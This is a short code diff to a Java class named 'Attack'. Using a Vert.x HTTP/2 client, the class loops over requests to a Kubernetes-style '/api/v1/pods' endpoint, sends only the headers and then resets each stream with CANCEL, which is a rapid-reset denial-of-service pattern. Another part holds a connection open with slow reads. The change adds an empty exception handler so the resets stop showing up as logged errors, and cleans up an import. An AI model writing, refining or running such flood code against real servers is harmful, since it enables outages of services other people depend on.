@@ -10,6 +10,7 @@ import io.vertx.core.http.PoolOptions;
 import io.vertx.core.http.RequestOptions;
 import io.vertx.core.net.NetClient;
 import io.vertx.core.net.NetClientOptions;
+import java.io.IOException;
 import java.io.InputStream;
 import java.nio.charset.StandardCharsets;
 import java.security.SecureRandom;
@@ -73,7 +74,11 @@ public final class Attack {
         int[] left = {RESETS};
         for (int i = 0; i < RESETS; i++) {
             client.request(options("/api/v1/pods"))
-                    .compose(request -> request.sendHead().onComplete(sent -> request.reset(CANCEL)))
+                    .compose(request -> {
+                        // Unheard, Vert.x logs each reset as an error.
+                        request.exceptionHandler(reset -> {});
+                        return request.sendHead().onComplete(sent -> request.reset(CANCEL));
+                    })
                     .onComplete(done -> {
                         left[0]--;
                         if (left[0] == 0) {
@@ -97,7 +102,7 @@ public final class Attack {
                 while (in.read() >= 0) {
                     TimeUnit.SECONDS.sleep(1);
                 }
-            } catch (java.io.IOException cut) {
+            } catch (IOException cut) {
                 TimeUnit.SECONDS.sleep(1);
             }
         }
